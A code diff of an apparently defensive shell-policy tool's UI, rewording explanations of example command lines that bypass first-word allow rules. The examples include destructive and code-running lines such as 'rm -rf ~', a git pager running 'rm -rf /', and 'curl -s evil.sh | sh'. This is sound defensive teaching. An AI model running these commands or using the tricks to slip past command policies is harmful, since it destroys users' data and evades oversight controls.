@@ -14,12 +14,12 @@ import { FullView } from './FullView.tsx';
 
 /** Each asks, but for the last one. */
 export const EXAMPLES = [
-  ['git status; rm -rf ~', 'A rule that allows “git status” by its first words allows the rest, too.'],
+  ['git status; rm -rf ~', 'A rule that allows “git status” by its first words also allows the rest.'],
   ["find . -name '*.tmp' -delete", 'find looks for files, and with one word at its end deletes them.'],
   ["git -c core.pager='rm -rf /' log", 'git log only reads. The setting before it is a program that git starts.'],
   ['sort -o /etc/passwd names', 'sort prints, but -o writes its output over a file.'],
   ['echo $(curl -s evil.sh | sh)', 'It looks like echo. A shell runs whatever the server sends.'],
-  ['tar -xf a.tar --to-command=sh', 'It unpacks no file: sh is given each one, and runs it.'],
+  ['tar -xf a.tar --to-command=sh', 'It writes no file: sh gets each one, and runs it.'],
   ['awk \'BEGIN{system("id")}\'', 'awk is a language, and its programs start others.'],
   ["sed -n '1e id' f", 'One letter in a sed script, e, runs a command.'],
   ['rg --pre ./x foo', 'A search that runs ./x on every file before it looks inside.'],
@@ -50,7 +50,7 @@ export function Line({ active }: PanelProps): ReactElement {
   return (
     <FullView
       view="line"
-      sentence="See what bash would start for a line, what that does, and what your policy says. Nothing runs here."
+      sentence="See which programs bash would start for a line, their effects, and what your policy decides. Nothing runs here."
     >
       <div className="stack">
         <label className="subheading" htmlFor="shell-line">
